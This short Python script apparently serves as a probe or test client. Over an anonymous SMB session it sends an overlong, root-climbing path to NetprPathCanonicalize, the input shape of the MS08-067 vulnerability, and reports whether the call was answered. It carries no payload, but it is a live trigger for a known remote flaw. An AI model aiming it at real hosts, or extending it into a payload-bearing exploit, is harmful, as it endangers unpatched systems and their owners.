#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""A client that calls NetprPathCanonicalize with a path of the shape that MS08-067 is known by, over an anonymous session.

Usage: smb_path_call.py HOST PORT. The path climbs above its root and is longer than 128 characters; it is made of letters
alone and carries no code. Prints what the call gave.
"""
import sys

from impacket.dcerpc.v5 import srvs, transport

# "\AAA...\..\..\BBB": one component down, two up (wire/ms08_067.h); the letters make it long.
PATH = "\\" + "A" * 200 + "\\..\\..\\" + "B" * 60 + "\0"


def main():
    host, port = sys.argv[1:]
    carrier = transport.SMBTransport(host, int(port), r"\browser", remote_host=host)
    client = carrier.get_dce_rpc()
    client.connect()
    client.bind(srvs.MSRPC_UUID_SRVS)
    try:
        srvs.hNetprPathCanonicalize(client, PATH, "\\\0", outbufLen=1000, pathType=1)
        print("call: answered")
    except Exception as error:
        print("refused:", error)


if __name__ == "__main__":
    main()
